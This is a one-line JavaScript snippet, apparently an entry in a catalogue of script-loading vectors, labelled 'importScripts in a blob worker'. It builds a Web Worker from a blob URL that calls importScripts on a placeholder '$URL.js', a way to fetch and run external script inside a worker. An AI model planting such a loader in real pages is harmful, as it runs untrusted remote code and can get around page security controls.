// vector: importScripts in a blob worker
// where: page, worker
setTimeout(Object, 60_000, new Worker(URL.createObjectURL(new Blob(["importScripts('$URL.js')"]))));
